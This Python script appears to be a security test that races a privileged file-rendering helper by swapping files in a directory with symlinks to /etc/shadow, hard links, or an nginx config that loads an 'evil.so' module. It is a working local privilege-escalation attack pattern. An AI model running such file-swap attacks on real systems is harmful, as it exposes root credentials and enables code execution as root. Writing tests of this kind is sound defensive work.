# SPDX-License-Identifier: GPL-3.0-or-later
"""Attack the helper of rendered files: rename and replace every file in DIRECTORY, as its owner, for five minutes.

Each file is replaced by a link to a file of root, or by a configuration that makes nginx load code.
"""

import contextlib
import os
import random
import sys
import time

(directory,) = sys.argv[1:]
owner = os.stat(directory)
os.chdir(directory)
os.setgroups([])
os.setgid(owner.st_gid)
os.setuid(owner.st_uid)
dice = random.Random(1)
deadline = time.monotonic() + 300


def exchange(name):
    """Rename the file ``name``, and put a random kind of replacement in its place."""
    if name.startswith("stolen"):
        with contextlib.suppress(OSError):
            os.unlink(name)
        return
    away = f"stolen-{dice.randrange(50)}"
    with contextlib.suppress(OSError):
        os.rename(name, away)
    # Choose a link rarely, because the helper stops at a link early and would not reach its later steps.
    what = dice.choice((0, *(1, 2, 3) * 6))
    if what == 0:
        os.symlink("/etc/shadow", name)
    elif what == 1:
        with open(name, "w", encoding="ascii") as stream:
            stream.write(f'load_module "{directory}/evil.so";\nevents {{}}\n')
        os.chmod(name, 0o666)
    elif what == 2:
        os.link(away, name)


while time.monotonic() < deadline:
    for found in [*os.listdir("."), "site.conf", "site.conf~", ".site.conf.xg-former", ".site.conf.xg-none"]:
        with contextlib.suppress(OSError):
            exchange(found)
